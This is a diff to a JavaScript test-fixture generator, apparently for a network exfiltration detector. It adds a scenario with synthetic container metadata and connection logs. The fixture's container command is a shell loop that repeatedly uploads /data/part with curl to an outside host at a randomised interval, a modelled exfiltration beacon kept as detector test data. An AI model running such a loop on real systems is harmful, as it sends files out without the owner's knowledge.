@@ -683,6 +683,31 @@ function jitteredJobs() {
   });
 }
 
+/** The container's own command loops; each upload shares its minute with a download twice its size from elsewhere. */
+function loopBesideDownloads() {
+  const draw = drawing('loop-beside-downloads');
+  const scenario = 'fires-on-a-looped-upload-beside-downloads';
+  const from = '10.20.0.35';
+  const container = {
+    uid: containerUid(draw),
+    name: 'mirror',
+    image: 'registry.example/shop/mirror:2',
+    labels: {},
+    ip: from,
+    startedAt: DAY_0 + 1 * HOUR,
+    command: ['sh', '-c', 'while :; do curl -sT /data/part http://203.0.113.90/in; sleep $RANDOM; done'],
+  };
+  write(AUTOMATED, scenario, 'inspect.json', `${JSON.stringify([inspectOf(container)], null, 1)}\n`);
+  const rows = range(5).flatMap((index) => {
+    const at = container.startedAt + 10 + index * 11 * MINUTE + draw.random() * 6 * MINUTE;
+    return [
+      conn(draw, { at, from, to: '203.0.113.90', port: 80, service: 'http', sent: 120 * KB, received: 600 }),
+      conn(draw, { at: at + 1, from, to: '203.0.113.150', sent: 2 * KB, received: 240 * KB }),
+    ];
+  });
+  writeLines(AUTOMATED, scenario, 'conn.log', rows);
+}
+
 function longTunnel() {
   const draw = drawing('tunnel');
   writeLines(AUTOMATED, 'fires-on-long-tls-tunnel', 'conn.log', [
@@ -912,6 +937,7 @@ for (const make of [
   underThreeTimesUsual,
   repeatedPut,
   jitteredJobs,
+  loopBesideDownloads,
   longTunnel,
   ftpsUpload,
   ftpThreatListed,
